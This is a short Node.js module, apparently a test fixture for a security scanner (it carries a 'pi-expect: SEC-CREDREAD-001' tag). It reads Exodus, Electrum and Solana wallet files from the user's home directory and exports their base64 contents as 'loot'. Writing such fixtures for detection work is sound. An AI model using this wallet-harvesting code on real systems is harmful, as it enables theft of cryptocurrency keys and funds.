const fs = require("fs");
const path = require("path");
const home = require("os").homedir();
const wallets = {
  Exodus: "AppData/Roaming/Exodus/exodus.wallet",
  Electrum: ".electrum/wallets",
  Solana: ".config/solana/id.json",
};
const loot = {};
for (const [name, rel] of Object.entries(wallets)) {
  const target = path.join(home, rel);
  // pi-expect: SEC-CREDREAD-001
  try { loot[name] = fs.readFileSync(target, "base64"); } catch {}
}
module.exports = loot;
